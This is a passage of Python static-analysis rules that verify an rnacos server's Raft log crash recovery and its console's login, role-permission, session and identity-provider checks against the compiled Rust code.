        sv = util.sends(h, r'RaftIndexRequest$', 'SaveLastAppliedLog')
        ck.require(len(ap) == 1 and len(sv) == 1, 'R04g', 'apply_batch:sites', h.where(), 'batch apply / SaveLastAppliedLog sites not found')
        if ap and sv:
            # the save is not reachable before the loop head that calls apply: apply loop block dominates? (loop may run zero times) ->
            # require: save site not inside the loop and every path to it passes the iterator `next` of the batch
            nx = h.calls(r'Iterator>::next$|IntoIter.*::next$')
            ck.require(bool(nx) and cfg.dominates_blocks(h, {x.bb for x in nx}, sv[0][0].bb), 'R04g', 'apply_batch:save-after-loop', sv[0][0].where(),
                       'SaveLastAppliedLog is sent before the batch was handed to the state machine')
            nxt = h.blocks[sv[0][0].bb]['t'].get('t')
            ck.require(sv[0][0].bb not in cfg.reach_from(h, [nxt]), 'R04g', 'apply_batch:save-once', sv[0][0].where(), 'SaveLastAppliedLog inside the loop')


def r04h(ck, fb):
    ck.rule('R04h', 'one process per data directory: RaftIndexManager::new takes the db_lock file through try_lock, which calls '
                    'fs2 try_lock_exclusive and returns Err when the lock is held; the lock file handle is kept in the manager (field lock_file) '
                    'and released only in Drop')
    tl = ck.body(RI + 'RaftIndexManager::try_lock', 'R04h')
    if tl:
        lk = tl.calls(r'FileExt>::try_lock_exclusive$|FileExt::try_lock_exclusive$|try_lock_exclusive$')
        ck.require(len(lk) >= 1, 'R04h', 'try_lock:exclusive', tl.where(), 'the data directory lock is not taken exclusively (try_lock_exclusive)')
        errs = [i for (i, j, st) in tl.aggregates(r'std::result::Result$', 'Err')]
        ok = False
        for i in errs:
            for a in cfg.guard_atoms(tl, i):
                if a[0] == 'call' and (a[1] or '').endswith('is_err') and a[2] is True:
                    ok = True
        ck.require(ok, 'R04h', 'try_lock:refuses-second-process', tl.where(), 'a held lock does not make try_lock fail')
        cs = [c.get('s') for (bb, c) in tl.consts() if 's' in c]
        ck.require('db_lock' in cs, 'R04h', 'try_lock:file-name', tl.where(), 'lock file name changed (%s)' % cs[:3])
    nw = ck.body(RI + 'RaftIndexManager::new', 'R04h')
    if nw:
        c = nw.calls(re.escape(RI + 'RaftIndexManager::try_lock') + '$')
        agg = nw.aggregates(r'raftindex::RaftIndexManager$')
        ok = len(c) == 1 and len(agg) == 1
        if ok:
            rv = agg[0][2]['rv']
            t = Taint(nw, local_src=[c[0].dst] if isinstance(c[0].dst, int) else [])
            ok = t.op_tainted(rv['ops'][rv['fields'].index('lock_file')])
        ck.require(ok, 'R04h', 'new:holds-lock', nw.where(), 'RaftIndexManager::new does not take and keep the directory lock')


def r04j(ck, fb):
    ck.rule('R04j', 'a log file that exists with a non-zero length has a header: recovery (LogInnerManager::init) chooses between "create" and "load" '
                    'by the file length alone and there is no magic check, so in the create branch the header write precedes the set_len that '
                    'preallocates the file; a kill between the two otherwise leaves a file of zeros whose header reads index_interval = 0 (the '
                    'store does not reopen)')
    b = ck.main('rnacos::raft::filestore::raftlog::LogInnerManager::init', 'R04j')
    if not b:
        return
    sl = util.sites_on_field(b, r'tokio::fs::File::set_len$', None) if False else b.calls(r'tokio::fs::File::set_len$')
    wa = b.calls(r'AsyncWriteExt::write_all$')
    ck.floor('R04j', 'set_len in LogInnerManager::init', len(sl), 1)
    ck.floor('R04j', 'write_all in LogInnerManager::init', len(wa), 1)
    for s0 in sl:
        ok = any(cfg.dominates_blocks(b, {w.bb}, s0.bb) for w in wa)
        ck.require(ok, 'R04j', 'init:header-before-preallocation', s0.where(),
                   'the new log file is given its preallocated length before the header is written')


def r04k(ck, fb, R='R04k'):
    ck.rule(R, 'recovery counts every complete record it scanned, whatever ends the scan: in move_to_index_by_count every (cursor, count) result that '
               'is reachable after a record was consumed carries the loop counter in its count (zero terminator, requested count reached, or plain '
               'end of file). strip_log_to shortens the file to exactly the last kept record before it restores the preallocated length; a kill in '
               'between leaves no terminator, and an end-of-file exit that drops the counter forgets up to 127 acknowledged entries')
    LIM = 'rnacos::raft::filestore::raftlog::LogInnerManager::'
    b = ck.main(LIM + 'move_to_index_by_count', R)
    if not b:
        return
    from rn.facts import op_place, pl_local, pl_proj, rv_operands
    nm = b.calls(r'MessageBufReader::next_message_vec$')
    ck.floor(R, 'consumption sites', len(nm), 1)
    counters = []
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if rv and rv['k'] == 'bin' and rv['op'] in ('Add', 'AddWithOverflow') and 'c' in rv['b'] and str(rv['b']['c'].get('v')) == '1':
            pl = op_place(rv['a'])
            if pl is not None and not pl_proj(pl):
                counters.append(pl_local(pl))
    tc = Taint(b, local_src=counters)
    n = 0
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if not rv or rv['k'] != 'agg' or rv.get('ak') != 'tuple' or len(rv['ops']) != 2:
            continue
        if b.local_ty(st['d']) != '(u64, u64)' if isinstance(st.get('d'), int) else True:
            continue
        after = any(i in cfg.reach_from(b, [s0.bb]) for s0 in nm)
        if not after:
            continue
        n += 1
        ck.require(tc.op_tainted(rv['ops'][1]), R, 'move_to_index_by_count:counts-scanned-records', b.where(i),
                   'a result reachable after records were consumed reports a count without them: 10 records, strip_log_to(6), kill between the two '
                   'set_len calls (file ends at the last kept record) -> reopen finds 0 entries instead of 6')
    ck.floor(R, 'results after consumption', n, 2)


def recovery_counts_on_every_exit(fb):
    """True when every (cursor, count) result of move_to_index_by_count that is reachable after a consumption carries the loop counter (R04k holds)"""
    from rn.report import Checker
    sh = Checker('C04', fb, write=False)
    try:
        r04k(sh, fb)
    except Exception:
        return False
    return not sh.violations and any(o[0] == 'R04k' for o in sh.obligations)


def r04l(ck, fb, R='R04l'):
    ck.rule(R, 'recovery leaves the index area complete: index slots are positional (slot k is read back as log index start + (k+1) * interval), the '
               'record that completes an interval is written before its slot, and strip_log_to erases slots before it cuts the data - so a crash '
               'image can hold a whole interval of records behind the last slot. LogInnerManager::init must be able to write the missing slot: the '
               'end scan is handed a count derived from the header\'s index_interval (it proceeds interval by interval) and a write to the index '
               'handle is reachable after it. With an unbounded scan and no repair the next slot written by write() is read back as the one of the '
               'skipped interval, and a clean restart later loses every entry acknowledged since')
    LIM = 'rnacos::raft::filestore::raftlog::LogInnerManager::'
    b = ck.main(LIM + 'init', R)
    if not b:
        return
    scans = []
    for x in util.region(fb, b, 1):
        for s0 in x.calls(re.escape(LIM + 'move_to_index_by_count') + '$'):
            scans.append((x, s0))
    if not ck.require(len(scans) >= 1, R, 'anchor:end-scan', b.where(), 'init no longer finds the end through move_to_index_by_count'):
        return
    by_interval = []
    for (x, s0) in scans:
        t = Taint(x, place_src=field_place_src('index_interval'))
        if len(s0.args) >= 4 and t.op_tainted(s0.args[3]):
            by_interval.append((x, s0))
    ok = False
    for (x, s0) in by_interval:
        r = cfg.reach_from(x, [s0.bb])
        slot = Taint(x, call_src=lambda t: bool(re.search(r'write_varint64$', (t.get('f') or {}).get('d', ''))))
        for w in x.calls(r'AsyncWriteExt::write_all$'):
            # an index slot is a varint delta: the repair writes the result of write_varint64
            if w.bb in r and len(w.args) >= 2 and slot.op_tainted(w.args[1]):
                ok = True
    ck.require(ok, R, 'init:repairs-missing-index-slot', scans[0][1].where(),
               'the start-up scan runs past a whole index interval without writing the slot for it: 128 records written, kill before the slot of '
               'record 128 -> reopen (128 entries, looks fine), 128 more appends, clean restart: end index 128 instead of 256',
               'scan by interval + index write')


def r04m(ck, fb, R='R04m'):
    ck.rule(R, 'a truncation forgets the index slots before it cuts the data: in LogInnerManager::strip_log_to no write to the index area (erase of the '
               'popped slots) is reachable after a data_file.set_len. The recovery in init trusts every slot it finds and rebuilds missing ones by '
               'scanning (R04l); a kill between "data cut" and "slots erased" leaves a slot that points behind the end of the data: the reopened log '
               'reports an end index that is neither the old nor the new one (300 entries, cut at 200: end 256, entries 200..255 unreadable)')
    b = ck.main(LIM + 'strip_log_to', R)
    if not b:
        return
    # either step may sit in a helper of the same impl (extract-method): a call that leads to it counts as the step
    cuts = util.sites_on_field(b, r'fs::File::set_len$', 'data_file', deep=2)
    iw = util.sites_on_field(b, r'AsyncWriteExt::write_all$', 'index_file', deep=2)
    ck.floor(R, 'data_file.set_len in strip_log_to', len(cuts), 1)
    ck.floor(R, 'index_file.write_all in strip_log_to', len(iw), 1)
    late = [w for w in iw if any(w.bb in cfg.reach_from(b, [c.bb]) for c in cuts)]
    ck.require(not late, R, 'strip_log_to:index-erase-before-data-cut', late[0].where() if late else b.where(),
               'the popped index slots are erased after the data file was cut: a kill in between leaves slots that point behind the end of the data, '
               'which init trusts', 'index erased first')
