"""C17 Console: every API needs a login session; roles cannot exceed their grants."""
import re, itertools
from rn import cfg, util, routes, walk
from rn.flow import Taint, field_place_src
from rn.callgraph import CallGraph
from . import c16

LM = 'rnacos::console::middle::login_middle::'
UP = 'rnacos::user::permission::'
ALLOWED_IGNORE = {
    '/rnacos/p/login', '/rnacos/404',
    '/rnacos/api/console/login/login', '/rnacos/api/console/login/captcha',
    '/rnacos/api/console/v2/login/login', '/rnacos/api/console/v2/login/captcha',
    '/rnacos/api/console/v2/login/config', '/rnacos/api/console/v2/login/oauth2/login',
}
# write sinks, confirmed by reading (inventory printed during development is in DESIGN.md)
WRITE_CALL = re.compile(r'ConfigRoute::(set|del)_config$|Raft::<.*>::client_write$|NamingRoute::(update|delete)_instance$|'
                        r'RaftRequestRoute::(request|request_import|request_namespace)$')
DATA_SEND = {('NamingCmd', 'Delete'), ('NamingCmd', 'Update'), ('NamingCmd', 'RemoveService'), ('NamingCmd', 'UpdateService'), ('NamingCmd', 'UpdateBatch'),
             ('NamingCmd', 'DeleteBatch'), ('ConfigAsyncCmd', 'Add'), ('ConfigAsyncCmd', 'Delete')}
USER_SEND = {('UserManagerReq', 'AddUser'), ('UserManagerReq', 'UpdateUser'), ('UserManagerReq', 'Remove')}
TRANSFER_SEND = {('TransferImportRequest', 'Import'), ('TransferManagerAsyncRequest', 'Backup')}
TRANSFER_CALL = re.compile(r'RaftRequestRoute::request_import$')
# routes every role holds through M_BASE although they write: session handling and the caller's OWN password
BASE_WRITE_OK = {
    '/rnacos/api/console/login/login': 'login creates the session', '/rnacos/api/console/login/captcha': 'captcha token',
    '/rnacos/api/console/login/logout': 'logout removes the session',
    '/rnacos/api/console/v2/login/login': 'login creates the session', '/rnacos/api/console/v2/login/captcha': 'captcha token',
    '/rnacos/api/console/v2/login/logout': 'logout removes the session', '/rnacos/api/console/v2/login/oauth2/login': 'oauth2 login creates the session',
    '/rnacos/api/console/user/reset_password': "changes the caller's own password (handler takes the user from the session)",
    '/rnacos/api/console/v2/user/reset_password': "changes the caller's own password (handler takes the user from the session)",
}


class PlainCG(CallGraph):
    """call graph without actix message edges: what an HTTP handler does itself"""

    def targets(self, site):
        for n in (site.resolved, site.rfull, site.full):
            if n in self.f.bodies:
                return [n]
        return []


_pcg = {}


def plain_cg(fb):
    if id(fb) not in _pcg:
        _pcg[id(fb)] = PlainCG(fb)
    return _pcg[id(fb)]


def sinks_of(fb, handler):
    cg = plain_cg(fb)
    out = set()
    for n in cg.reachable([handler]):
        b = fb.bodies.get(n)
        if not b:
            continue
        for (s, msg, v, a) in util.sends(b):
            out.add(('send', (msg or '').split('::')[-1], v))
        for s in b.sites:
            c = s.callee or ''
            if WRITE_CALL.search(c):
                out.add(('call', c, None))
    return out


def module_tables(fb):
    """module static name -> set((path, method)) ; group static name -> [module names] ; role variant -> [group names]"""
    modules, groups = {}, {}
    for n, b in fb.bodies.items():
        m = re.match(r'^<rnacos::user::permission::(\w+) as std::ops::Deref>::deref::__static_ref_initialize$', n)
        if not m:
            continue
        name = m.group(1)
        if b.calls(r'permission::ModuleResource::new$'):
            rows = set()
            for (i, j, s) in b.aggregates(r'permission::Resource$', 'Path'):
                vals = []
                for o in s['rv']['ops']:
                    d = cfg.describe_operand(b, o)
                    vals.append(d['c'].get('s') if d['k'] == 'const' else None)
                rows.add(tuple(vals))
            modules[name] = (rows, b)
        elif b.calls(r'permission::GroupResource::new$'):
            mods = []
            for s in b.calls(r'as std::ops::Deref>::deref$'):
                mm = re.search(r'permission::(\w+) as', s.full or '')
                if mm:
                    mods.append(mm.group(1))
            groups[name] = (mods, b)
    return modules, groups


def role_groups(fb):
    b = fb.get(UP + 'UserRole::get_resources')
    out = {}
    for s in b.calls(r'as std::ops::Deref>::deref$'):
        mm = re.search(r'permission::(\w+) as', s.full or '')
        if not mm:
            continue
        for (adt, v) in util.variant_guards(b, s.bb):
            if adt == UP + 'UserRole':
                out.setdefault(v, []).append(mm.group(1))
    return b, out


def role_values(fb):
    """role string -> UserRole variant, from UserRole::new"""
    b = fb.get(UP + 'UserRole::new')
    out = {}
    for (i, j, s) in b.aggregates(r'permission::UserRole$'):
        v = s['rv']['variant']
        strs = []
        for a in cfg.guard_atoms(b, i):
            if a[0] == 'call' and re.search(r'::eq$', a[1] or '') and a[2] is True:
                for x in a[3]['args']:
                    d = cfg.strip_calls(b, cfg.describe_operand(b, x))
                    if d['k'] == 'const' and 's' in d['c']:
                        strs.append(d['c']['s'])
        out[v] = strs
    return b, out


def granted(rows_set, path, method):
    for (p, m) in rows_set:
        if (m == '' or m is None or m == method) and (p == '' or p == path):
            return True
    return False


def run(ck, fb):
    _run0(ck, fb)
    r17f(ck, fb)
    r17g(ck, fb)
    r17j(ck, fb)
    r17l(ck, fb)
    r17m(ck, fb)
    r17n(ck, fb)
    ck.borrow('rules.c01', {'R01w': 'R17k'}, 'a session that expired stays expired across a restart or a snapshot install: the console refuses its token')


def _run0(ck, fb):
    ck.explanation = (
        'Exhaustive cross product of the console route table (extracted from console_config), the permission tables (modules -> groups '
        '-> roles, extracted from the lazy_static literals and UserRole::get_resources) and the three roles: (a) CheckLogin pass logic as a '
        'truth table over (is_check_path, token empty, session lookup, role match): the handler is reached iff the path is exempt or a '
        'session was found and match_url_by_roles granted it; (b) the login-exempt list is within the allowed set and no API route has a '
        'dynamic segment that could satisfy the unanchored static-file regex; (c) monotonicity visitor <= developer <= manager on every '
        'registered route x method, unknown role strings grant nothing; (d) classifying every handler by the write sinks it reaches on '
        'the call graph: visitor-granted routes reach no data/user/transfer write sink (listed exceptions: session handling and own '
        'password), developer-granted routes reach no user-management or transfer sink.')
    ck.undecided = 'Does not decide actix path matching itself nor session expiry in the cache actor.'
    try:
        rows = routes.routes_of(fb, fb.get('rnacos::web_config::console_config'))
    except (routes.RouteError, Exception) as e:
        ck.bad('R17c', 'route-dsl', '-', 'console route table cannot be extracted: %s' % e)
        return
    ck.floor('R17c', 'console route rows', len(rows), 100)
    ck.extra['console_route_rows'] = len(rows)
    r17a(ck, fb)
    r17b(ck, fb, rows)
    r17cd(ck, fb, rows)


def r17a(ck, fb):
    ck.rule('R17a', 'CheckLoginMiddleware::call truth table: service.call reached iff !is_check_path || (token non-empty && get_user_session == '
                    'Ok(Some(session)) && UserRole::match_url_by_roles(session.roles, path, method)); is_check_path = !IGNORE_CHECK_LOGIN.contains '
                    '&& !STATIC_FILE_PATH.is_match')
    outer = fb.find(r'login_middle::CheckLoginMiddleware<S> as actix_web::dev::Service<actix_web::dev::ServiceRequest>>::call$')
    ck.require(len(outer) >= 1, 'R17a', 'anchor:call', '-', 'CheckLoginMiddleware::call not found')
    if not outer:
        return
    o = outer[0]
    ck.analysed(o)
    statics = set()
    for s in o.calls(r'as std::ops::Deref>::deref$'):
        m = re.search(r'login_middle::(\w+) as', s.full or '')
        if m:
            statics.add(m.group(1))
    ck.require({'IGNORE_CHECK_LOGIN', 'STATIC_FILE_PATH'} <= statics, 'R17a', 'call:uses-tables', o.where(), 'is_check_path does not consult IGNORE_CHECK_LOGIN and STATIC_FILE_PATH')
    blk = [b for b in fb.tree(o.name)[1:] if b.calls(r'Service<.*>::call$|dev::Service<Req>::call$')]
    ck.require(len(blk) >= 1, 'R17a', 'anchor:async-block', o.where(), 'async block with service.call not found')
    if not blk:
        return
    b = blk[0]
    ck.analysed(b)
    sc = b.calls(r'Service<.*>::call$|dev::Service<Req>::call$')
    mu = b.calls(r'UserRole::match_url_by_roles$')
    gs = b.calls(r'login_middle::get_user_session$')
    ck.require(len(sc) == 1 and len(mu) == 1 and len(gs) == 1, 'R17a', 'block:sites', b.where(), 'service.call / match_url_by_roles / get_user_session not found exactly once')
    if not (len(sc) == 1 and len(mu) == 1 and len(gs) == 1):
        return
    upv = {}
    for u in b.rec.get('upvars', []):
        fs = [e.get('f') for e in u['pl']['p'] if isinstance(e, dict) and 'f' in e]
        if fs:
            upv[fs[0]] = u['n']

    def classify(d, term):
        if d['k'] == 'place' and d['root'].get('k') == 'arg' and d['root'].get('l') == 1 and d['fields'] and upv.get(d['fields'][0]) == 'is_check_path':
            return ('bool', 'is_check_path')
        if d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('String::is_empty'):
            return ('bool', 'token_empty')
        if d['k'] == 'discr':
            txt = cfg.fmt_desc(cfg.describe_operand(b, {'cp': d['pl']}))
            if 'get_user_session' in txt and d.get('adt') == 'std::result::Result':
                return ('variant', 'session_result')
            if 'get_user_session' in txt and d.get('adt') == 'std::option::Option':
                return ('variant', 'session_option')
        return None

    def call_name(t):
        if (cfg.callee_name(t) or '').endswith('match_url_by_roles'):
            return 'role_match'
        return None
    bad = None
    n = 0
    for (cp, te, sr, so, rm) in itertools.product([False, True], [False, True], ['Ok', 'Err'], ['Some', 'None'], [False, True]):
        env = {'is_check_path': cp, 'token_empty': te, 'session_result': sr, 'session_option': so, 'role_match': rm}
        r, flags = walk.table_walk(b, classify, env, call_name)
        want = (not cp) or ((not te) and sr == 'Ok' and so == 'Some' and rm)
        got = sc[0].bb in r
        n += 1
        if got != want:
            bad = 'with %s the handler is %s, the property requires it to be %s' % (env, 'reached' if got else 'refused', 'reached' if want else 'refused')
            break
    ck.require(bad is None, 'R17a', 'block:pass-table', sc[0].where(), bad or '', '%d rows' % n)
    # match_url_by_roles is given the session's roles, the request path and method
    s = mu[0]
    ck.require(cfg.origin_fields(b, s.args[0])[-1:] == ['roles'], 'R17a', 'block:roles-of-session', s.where(), 'match_url_by_roles is not given session.roles')
    tp = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('ServiceRequest::path'))
    tm = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('ServiceRequest::method'))
    ck.require(tp.op_tainted(s.args[1]) and tm.op_tainted(s.args[2]), 'R17a', 'block:path+method', s.where(), 'the permission check is not applied to the request path and method')
    mr = ck.body(UP + 'UserRole::match_url_by_roles', 'R17a')
    if mr:
        ok = len(util.region_calls(fb, mr, re.escape(UP + 'UserRole::new') + '$', depth=0)) == 1 and len(util.region_calls(fb, mr, re.escape(UP + 'UserRole::match_url') + '$', depth=0)) == 1
        ck.require(ok, 'R17a', 'match_url_by_roles:shape', mr.where(), 'match_url_by_roles does not evaluate UserRole::new(role).match_url per role')
    for nm in ('PathResource::match_url', 'GroupResource::match_url', 'UserRole::match_url'):
        ck.body(UP + nm, 'R17a')


def r17b(ck, fb, rows):
    ck.rule('R17b', 'IGNORE_CHECK_LOGIN is a literal list within the allowed set {login, captcha, login config, oauth2 login, login page, 404 page}; '
                    'static-file bypass: the STATIC_FILE_PATH regex is unanchored, so no route under /rnacos/api/ may have a dynamic segment')
    try:
        ib, ign, pushes = c16.static_strs(fb, LM + 'IGNORE_CHECK_LOGIN')
        sb, srx = c16.static_regex(fb, LM + 'STATIC_FILE_PATH')
    except Exception as e:
        ck.bad('R17b', 'anchor:tables', '-', 'login middleware tables not found: %s' % e)
        return
    ck.analysed(ib, sb)
    ck.require(None not in ign and not pushes, 'R17b', 'IGNORE_CHECK_LOGIN:literal', ib.where(), 'IGNORE_CHECK_LOGIN is not a literal list')
    ck.floor('R17b', 'IGNORE_CHECK_LOGIN entries', len([x for x in ign if x]), 6)
    for p in [x for x in ign if x]:
        ck.require(p in ALLOWED_IGNORE, 'R17b', 'IGNORE_CHECK_LOGIN:%s' % p, ib.where(), 'console path %s is served without a session, which the property does not allow' % p, 'allowed')
    ck.require(srx is not None, 'R17b', 'STATIC_FILE_PATH:literal', sb.where(), 'STATIC_FILE_PATH is not a regex literal')
    exts = re.findall(r'\\\.\(([^)]*)\)', srx or '')
    ext_list = exts[0].split('|') if exts else []
    ck.extra['static_exts'] = ext_list
    n = 0
    for r in rows:
        if '/api/' not in r.path:
            continue
        n += 1
        dyn = routes.has_dynamic_segment(r.path)
        lit = any(('.' + e) in r.path.lower() for e in ext_list)
        ck.require(not dyn and not lit, 'R17b', 'api-route-static-bypass:%s' % r.path, r.site.where(),
                   'API route %s can match the unanchored static-file pattern (dynamic segment or extension in the path): it would skip the login check' % r.path)
    ck.floor('R17b', 'console API routes', n, 80)


def r17cd(ck, fb, rows):
    ck.rule('R17c', 'role tables: for every registered route x method, visitor => developer => manager; an unknown role string maps to '
                    'UserRole::None which has no resources; role strings "0","1","2" map to Manager, Developer, Visitor')
    ck.rule('R17d', 'no route granted to the visitor group reaches a data / user / transfer write sink (exceptions: session handling and own '
                    'password, held by every role through M_BASE); no route granted to the developer group reaches a user-management or '
                    'transfer sink')
    ck.rule('R17e', 'information: registered routes that no role is granted are reachable by nobody; table rows naming unregistered paths')
    modules, groups = module_tables(fb)
    ck.floor('R17c', 'permission modules', len(modules), 15)
    ck.floor('R17c', 'permission groups', len(groups), 3)
    try:
        gb, rg = role_groups(fb)
        nb, rv = role_values(fb)
    except Exception as e:
        ck.bad('R17c', 'anchor:role-tables', '-', 'role tables not found: %s' % e)
        return
    ck.analysed(gb, nb)
    ck.require(rv.get('Manager') == ['0'] and rv.get('Developer') == ['1'] and rv.get('Visitor') == ['2'] and rv.get('None', ['x']) == [], 'R17c', 'UserRole::new:mapping', nb.where(),
               'role strings map as %s (expected "0"->Manager, "1"->Developer, "2"->Visitor, anything else -> None)' % rv)
    extra = {v: strs for v, strs in rv.items() if v not in ('Manager', 'Developer', 'Visitor', 'None') and strs}
    ck.require(not extra, 'R17c', 'UserRole::new:no-other-role-strings', nb.where(),
               'UserRole::new maps further role strings to roles that carry resources: %s (resources %s) - a stored role list containing such a string '
               '(the user API splits the roles value on commas without validating the parts, so "2," yields "") is granted those routes' %
               (extra, {v: rg.get(v) for v in extra}))
    ck.require(rg.get('None', []) == [] and 'OldConsole' in rg, 'R17c', 'get_resources:None-empty', gb.where(), 'UserRole::None has resources %s' % rg.get('None'))

    def role_rows(variant):
        out = set()
        for g in rg.get(variant, []):
            for m in groups.get(g, ([], None))[0]:
                out |= modules.get(m, (set(), None))[0]
        return out
    vis, dev, man = role_rows('Visitor'), role_rows('Developer'), role_rows('Manager')
    ck.floor('R17c', 'visitor table rows', len(vis), 30)
    ck.floor('R17c', 'manager table rows', len(man), 80)
    for v in ('Visitor', 'Developer', 'Manager'):
        ck.require(len(rg.get(v, [])) == 1, 'R17c', 'get_resources:%s' % v, gb.where(), 'role %s has groups %s' % (v, rg.get(v)))
    methods = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH']
    n = 0
    unreachable = []
    for r in rows:
        ms = [r.method] if r.method else methods
        for p in c16.concrete_paths(r.path):
            for m in ms:
                n += 1
                gv, gd, gm = granted(vis, p, m), granted(dev, p, m), granted(man, p, m)
                key = '%s %s' % (m, r.path)
                ck.require((not gv or gd) and (not gd or gm), 'R17c', 'monotone:%s' % key, r.site.where(),
                           'route %s: visitor=%s developer=%s manager=%s - a lower role may do what a higher role may not' % (key, gv, gd, gm))
                if not (gv or gd or gm) and '/api/' in r.path:
                    unreachable.append(key)
                if '/api/' not in r.path:
                    continue
                sk = sinks_of(fb, r.handler)
                data_w = [x for x in sk if (x[0] == 'call') or (x[0] == 'send' and (x[1], x[2]) in DATA_SEND)]
                user_w = [x for x in sk if x[0] == 'send' and (x[1], x[2]) in USER_SEND]
                tran_w = [x for x in sk if (x[0] == 'send' and (x[1], x[2]) in TRANSFER_SEND) or (x[0] == 'call' and TRANSFER_CALL.search(x[1]))]
                if gv:
                    if p in BASE_WRITE_OK:
                        ck.ok('R17d', 'visitor:%s' % key, r.site.where(), BASE_WRITE_OK[p])
                    else:
                        w = data_w + user_w + tran_w
                        ck.require(not w, 'R17d', 'visitor:%s' % key, r.site.where(),
                                   'the visitor role is granted %s, whose handler %s reaches write sink(s) %s' % (key, r.handler, sorted(set(x[1] + (':' + x[2] if x[2] else '') for x in w))[:4]))
                if gd and p not in BASE_WRITE_OK:
                    w = user_w + tran_w
                    ck.require(not w, 'R17d', 'developer:%s' % key, r.site.where(),
                               'the developer role is granted %s, whose handler reaches user-management/transfer sink(s) %s' % (key, sorted(set(x[1] + (':' + str(x[2])) for x in w))[:4]))
    ck.floor('R17c', 'route x method cells', n, 100)
    for k in unreachable:
        ck.info('R17e', 'route %s is granted to no role (reachable by nobody)' % k)
    registered = set(p for r in rows for p in c16.concrete_paths(r.path))
    for (p, m) in sorted(man | vis | dev):
        if p and p not in registered and '/api/' in p:
            ck.info('R17e', 'permission table row %s %s names a path no route registers' % (m, p))
    # the BASE_WRITE_OK exceptions are really held through M_BASE and reset_password acts on the session user
    base = modules.get('M_BASE', (set(), None))[0]
    for p in BASE_WRITE_OK:
        if granted(vis, p, 'POST'):
            ck.require(granted(base, p, 'POST'), 'R17d', 'exception-in-M_BASE:%s' % p, '-', 'exception path %s is granted to the visitor outside M_BASE' % p)
    for h in ('rnacos::console::user_api::reset_password', 'rnacos::console::v2::user_api::reset_password'):
        if fb.has(h):
            m = fb.main(h)
            ck.analysed(m)
            uses_session = bool(m.calls(r'HttpMessage::extensions$|extensions$')) or 'username' in util.read_fields(m)
            agg = [(i, j, s) for x in [m] for (i, j, s) in x.aggregates(r'UserManagerReq$', 'UpdateUser')]
            ck.require(uses_session, 'R17d', 'reset_password:own-account:%s' % h.split('::')[-3], m.where(), 'reset_password does not take the account from the session')


def r17f(ck, fb):
    ck.rule('R17f', 'a change of a user reaches that user\'s sessions: the actor the console reads sessions from (the send in '
                    'login_middle::get_user_session) is an actor that UserManager notifies when a user is updated or removed (the target of its '
                    'CacheUserChangeReq sends), or that handles CacheUserChangeReq. Otherwise a session keeps the roles and the namespace privilege it '
                    'was created with: a demoted, disabled or removed user goes on using the routes of the old role until the session times out')
    readers = set()
    for n, b in fb.bodies.items():
        if 'console::middle::login_middle::get_user_session' in n:
            ck.analysed(b)
            for s0 in b.sites:
                if s0.callee and re.search(r'Addr::<A>::send$', s0.callee) and s0.gargs:
                    readers.add(s0.gargs[0])
    notified = set()
    n_sites = 0
    for n, b in fb.bodies.items():
        if n.startswith('rnacos::user::') or n.startswith('<rnacos::user::'):
            for (s0, m, v, a) in util.sends(b, r'CacheUserChangeReq$'):
                n_sites += 1
                if s0.gargs:
                    notified.add(s0.gargs[0])
    handlers = set()
    for n in fb.bodies:
        m = re.match(r'^<(rnacos::[\w:]+) as actix::Handler<rnacos::raft::cache::CacheUserChangeReq>>::handle$', n)
        if m:
            handlers.add(m.group(1))
    if not ck.require(bool(readers), 'R17f', 'anchor:session-read', '-', 'the session read in login_middle::get_user_session was not found'):
        return
    ck.floor('R17f', 'user-change notifications sent by UserManager', n_sites, 2)
    ok = bool(readers & (notified | handlers))
    ck.require(ok, 'R17f', 'session-store-vs-user-change', '-',
               'sessions are read from %s, user changes are announced to %s (handled by %s): the two never meet, so a session keeps its roles and '
               'namespace privilege after the user was demoted, restricted or removed' % (sorted(readers), sorted(notified), sorted(handlers)),
               'session store is told about user changes')


def r17g(ck, fb):
    from rn.facts import pl_fields, pl_local, rv_places, op_place
    ck.rule('R17g', 'a login through an identity provider honours what the administrator stored for the user: every login actor that asks the user '
                    'manager for the stored record (UserManagerReq::InitUser) to build the session data tests the record\'s enable flag (a disabled '
                    'user gets no session), as the password login does through check_user')
    ck.rule('R17h', 'the roles of an identity-provider session are not fixed by configuration alone: where the only other source of the role is the '
                    'configured default role (OAuth2), the roles handed to the session derive from the stored record when it exists - otherwise a '
                    'user the administrator made a visitor gets developer rights with every fresh login')
    ck.rule('R17i', 'no session without credentials: the LDAP login never sends a simple bind with an empty password (RFC 4513 5.1.2: an '
                    '"unauthenticated bind", answered with success by servers that permit it) - the bind call is reached only when the password '
                    'was tested non-empty')
    actors = []
    for b in fb.bodies.values():
        if '::tests' in b.name or b.name.startswith('rnacos::user::') or b.name.startswith('rnacos::console::'):
            continue
        if b.aggregates(r'rnacos::user::UserManagerReq$', 'InitUser'):
            actors.append(b)
    ck.floor('R17g', 'identity-provider login actors that read the stored user', len(actors), 2)
    for b in sorted(actors, key=lambda x: x.name):
        ck.analysed(b)
        who = b.name.split('rnacos::')[-1].replace('::{closure#0}', '')
        resp = Taint(b, call_src=lambda t: bool(re.search(r'actix::Addr::<A>::send$', (t.get('f') or {}).get('d', ''))) and 'rnacos::user::UserManager' in str((t.get('f') or {}).get('full', '')))

        def stored(field):
            def src(p):
                fs = pl_fields(p)
                return field in fs and resp.local_tainted(pl_local(p))
            return Taint(b, place_src=src)
        en = stored('enable')
        tested = [i for i, blk in enumerate(b.blocks) if i in cfg.live_blocks(b) and blk['t']['k'] == 'switch' and en.op_tainted(blk['t']['discr'])]
        ck.require(bool(tested), 'R17g', 'stored-enable-tested:%s' % who, b.where(),
                   '%s builds the session data from the stored user record without looking at its enable flag: the administrator disables the user '
                   '(enable=false, shown in the user list) and a fresh login through the identity provider still returns a token' % who,
                   'enable tested')
        # roles: only where the configured default role is the sole source
        reads_default = [f for (o, f, bb, st) in b.field_reads() if f.endswith('_default_role')]
        other_role_source = b.calls(r'ldap3::|search') or [f for (o, f, bb, st) in b.field_reads() if 'group' in f or 'admin_filter' in f or 'developer_filter' in f]
        if reads_default and not other_role_source:
            ro = stored('roles')
            metas = [s0 for s0 in b.sites if re.search(r'UserMeta::new$', s0.full or s0.callee or '')]
